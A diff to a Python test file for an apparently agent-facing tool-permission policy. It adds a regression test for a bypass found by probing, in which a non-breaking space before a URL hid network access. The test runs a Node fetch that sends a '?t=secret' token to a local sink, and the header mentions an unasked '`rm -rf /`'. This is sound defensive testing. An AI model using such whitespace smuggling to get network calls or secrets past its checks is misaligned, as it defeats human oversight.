@@ -7,6 +7,8 @@ rm -rf /`` ran unasked; the real effect, a merge moving a bare remote's ``main``
 from __future__ import annotations
 
 import json
+import shutil
+import subprocess
 import time
 
 import pytest
@@ -17,6 +19,7 @@ from exomonad.policy.default import DEFAULT_POLICY
 from exomonad.policy.mcp_names import OWN_TOOLS, name_words, own_tool, reads_only
 from exomonad.policy.request import ToolRequest
 from exomonad.server.tools import TOOLS
+from tests.policy.conftest import Sink
 from tests.policy.worker import ROOT, WT, decide, engine_for, request
 
 #: Tool names of widely used servers (GitHub, filesystem, context7, Playwright, Postgres,
@@ -291,6 +294,28 @@ def test_a_url_a_browser_reads_is_network_access_to_its_host(data: dict[str, obj
     verdict = decide("mcp__web__read_page", data)
     assert isinstance(verdict, Escalate), verdict
     assert f"network access to {host}" in verdict.reason, verdict.reason
+
+
+def test_a_url_a_server_trims_first_is_network_access(sink: Sink) -> None:
+    """Found probing: U+00A0 before a URL under an argument named ``q`` hid it (a WHATWG
+    parser does not drop it, but a server that trims first does). Run for real: Node's
+    ``fetch(q.trim())`` reaches the host; and every character JavaScript's ``trim()``
+    drops is dropped before judging."""
+    node = shutil.which("node")
+    assert node is not None, "node is not on PATH: run `make setup`"
+    script = (
+        "const q = process.argv[1]; fetch(q.trim()).then(() => 0, () => 0); let all = '';"
+        "for (let c = 0; c < 0x10000; c++) { const s = String.fromCharCode(c);"
+        " if (s.trim() === '') all += s; } process.stdout.write(JSON.stringify(all));"
+    )
+    query = f"\u00a0{sink.url}?t=secret"
+    ran = subprocess.run([node, "-e", script, query], capture_output=True, text=True,
+                         timeout=60, check=True)  # fmt: skip
+    assert any("?t=secret" in line for line in sink.lines), sink.lines
+    for space in json.loads(ran.stdout):
+        verdict = decide("mcp__web__search", {"q": f"{space}{sink.url}?t=secret"})
+        assert isinstance(verdict, Escalate), (hex(ord(space)), verdict)
+        assert "network access to 127.0.0.1" in verdict.reason, verdict.reason
 
 
 @pytest.mark.parametrize("key", ["domain", "hostname", "domainName", "target_domain", "domains"])
